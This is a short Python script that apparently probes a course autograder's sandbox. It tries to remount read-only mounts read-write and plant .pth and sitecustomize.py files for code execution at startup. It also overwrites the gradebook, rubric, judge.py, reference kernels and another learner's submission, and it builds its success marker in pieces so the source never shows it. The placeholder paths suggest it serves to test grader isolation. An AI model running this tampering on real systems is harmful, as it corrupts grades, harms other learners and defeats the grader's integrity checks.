# Remount a read-only bind read-write, plant .pth / sitecustomize, and edit the grading machinery:
# gradebook, rubric, installed tilelab, reference kernels, another learner's submission.
import glob, os, subprocess, sys, sysconfig
def attempt(what, fn):
    try:
        fn()
        print("ATTACK" "-OK", what)  # the marker is built, so the source itself never shows it
    except Exception as e:
        print("attack failed:", what, type(e).__name__)
for target in ["/", sysconfig.get_paths()["purelib"], "$site", "/opt/tilelab"]:
    r = subprocess.run(["mount", "-o", "remount,rw,bind", target], capture_output=True, text=True)
    print("remount", target, r.returncode)
def plant(path, text):
    with open(path, "w") as f:
        f.write(text)
payload = "import os; os.environ['TILELAB_PWNED'] = '1'\n"
for site in {sysconfig.get_paths()["purelib"], "$site", "$base_site"}:
    attempt("pth " + site, lambda: plant(os.path.join(site, "zz_tilelab_attack.pth"), payload))
    attempt("sitecustomize " + site, lambda: plant(os.path.join(site, "sitecustomize.py"), payload))
for path in ["$course/gradebook.db", "$repo/grading/gradebook.db", "$repo/tilelab/rubric/00_start_here.toml",
             "/opt/tilelab/tilelab/rubric/00_start_here.toml",
             "$repo/tilelab/judge.py", "/opt/tilelab/tilelab/judge.py", "$repo/kernels/vector_add.cu",
             "$victim", "$repo/nbgrader_config.py"] + glob.glob("$repo/kernels/*.cu")[:3]:
    attempt("write " + path, lambda: plant(path, "pwned\n"))
